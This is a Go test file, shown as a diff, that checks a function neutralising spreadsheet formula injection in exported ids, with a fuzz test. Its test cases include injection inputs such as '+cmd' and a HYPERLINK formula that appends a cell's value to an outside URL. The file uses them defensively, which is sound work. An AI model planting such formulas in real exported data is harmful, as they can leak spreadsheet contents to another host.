@@ -1,0 +1,71 @@
+package fileio
+
+import (
+	"testing"
+)
+
+// TestSpreadsheetSafe (issue 23, item 4): ids a spreadsheet would run as
+// formulas get a leading ', numbers and plain ids are unchanged, and the
+// mapping round-trips through UnquoteSpreadsheet and LookupID for every
+// id, including ids that themselves start with ' (without the extra quote
+// "'=x" and "=x" would both be written "'=x").
+func TestSpreadsheetSafe(t *testing.T) {
+	cases := map[string]string{
+		"m10":                         "m10",
+		"=1+1":                        "'=1+1",
+		"+cmd":                        "'+cmd",
+		"-2+3":                        "'-2+3",
+		"@SUM(A1)":                    "'@SUM(A1)",
+		"\t=x":                        "'\t=x",
+		"\r=x":                        "'\r=x",
+		"-5":                          "-5", // a number, not a formula
+		"+1.5e3":                      "+1.5e3",
+		"-Inf":                        "-Inf", // ParseFloat reads it: a spreadsheet shows text
+		"'=x":                         "''=x",
+		"'quoted":                     "''quoted",
+		" sp ":                        " sp ",
+		"":                            "",
+		`=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`,
+	}
+	index := map[string]int{}
+	k := 0
+	for id, want := range cases {
+		if got := SpreadsheetSafe(id); got != want {
+			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", id, got, want)
+		}
+		if back := UnquoteSpreadsheet(SpreadsheetSafe(id)); back != id {
+			t.Errorf("UnquoteSpreadsheet(SpreadsheetSafe(%q)) = %q", id, back)
+		}
+		index[id] = k
+		k++
+	}
+	for id, i := range index {
+		if got, _, ok := LookupID(index, SpreadsheetSafe(id)); !ok || got != i {
+			t.Errorf("LookupID(%q) = %d %v, want %d", SpreadsheetSafe(id), got, ok, i)
+		}
+		if got, _, ok := LookupID(index, id); !ok || got != i {
+			t.Errorf("LookupID(%q) raw = %d %v, want %d", id, got, ok, i)
+		}
+	}
+	if i, matched, ok := LookupID(map[string]int{"m10": 3}, " m10 "); !ok || i != 3 || matched != "m10" {
+		t.Errorf("LookupID with spaces around: %d %q %v", i, matched, ok)
+	}
+}
+
+// FuzzSpreadsheetSafe: SpreadsheetSafe never yields a cell a spreadsheet
+// runs as a formula unless it is a number, and UnquoteSpreadsheet inverts
+// it.
+func FuzzSpreadsheetSafe(f *testing.F) {
+	for _, s := range []string{"=1", "'", "''=", "-5", "- 5", "\t"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, id string) {
+		s := SpreadsheetSafe(id)
+		if UnquoteSpreadsheet(s) != id {
+			t.Fatalf("%q -> %q -> %q", id, s, UnquoteSpreadsheet(s))
+		}
+		if s != "" && formulaStart(s[0]) && s[0] != '\'' && s != id {
+			t.Fatalf("%q -> %q still starts a formula", id, s)
+		}
+	})
+}
